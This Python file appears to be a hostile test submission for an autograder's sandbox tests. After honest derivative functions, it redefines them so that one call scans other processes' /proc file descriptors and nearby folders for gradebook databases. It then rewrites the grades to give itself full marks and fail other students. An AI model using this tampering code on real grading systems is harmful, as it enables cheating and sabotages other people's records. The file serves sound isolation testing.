"""Hostile submission (runtime): Tampers with the gradebook: looks for gradebook.sqlite and results.json through other processes' descriptors and on disk (the folders around the class), and rewrites every grade it finds.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import os
import sqlite3
import time

SEARCH_ROOTS = []  # the test writes the folders around the class here (e.g. its tmp_path)
NAMES = ("gradebook.sqlite", "gradebook.sqlite-journal", "gradebook.sqlite-wal", "results.json")


def _candidates():
    """Gradebooks through other processes' descriptors, and on disk."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                try:
                    target = os.readlink(f"/proc/{pid}/fd/{fd}")
                except OSError:
                    continue
                if "gradebook" in target or target.endswith(".sqlite"):
                    found.append(f"/proc/{pid}/fd/{fd}")
        except OSError:
            pass
    deadline = time.monotonic() + 3.0
    for root in SEARCH_ROOTS + ["/tmp"]:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                break
            found += [os.path.join(folder, n) for n in files if n in NAMES]
    return found


def _ours(path):
    """Only the test's own files (or a descriptor of the grader's) are ever written to."""
    return path.startswith("/proc/") or any(path.startswith(r + os.sep) for r in SEARCH_ROOTS)


def _tamper():
    for path in _candidates():
        try:
            with open(path, "rb") as fh:
                fh.read(16)
            print("READ-GRADEBOOK", path)
        except OSError:
            continue
        if not _ours(path):
            continue
        if path.endswith("results.json"):
            try:
                with open(path, "a") as fh:
                    fh.write(" ")
                print("ESCAPED: wrote", path)
            except OSError:
                pass
            continue
        try:
            db = sqlite3.connect(path, timeout=0.5)
            db.execute("UPDATE check_results SET points = max_points, status = 'passed', "
                       "message = 'calcgrade-hostile-tampered'")
            db.execute("UPDATE check_results SET points = 0, status = 'failed' "
                       "WHERE student NOT LIKE '%gradebook%'")
            db.commit()
            db.close()
            print("ESCAPED: tampered with", path)
        except Exception as exc:  # noqa: BLE001
            print("tamper failed", path, type(exc).__name__)


def symbolic_derivative():
    _tamper()
    return sp.Symbol("x") ** 2                          # wrong: only tampering could pass it


def rate_of_change(f, x, dx=1e-6):
    return np.zeros_like(np.asarray(x, dtype=float))    # wrong


def autodiff_derivative(f):
    return lambda xs: np.zeros_like(np.asarray(xs, dtype=float))  # wrong
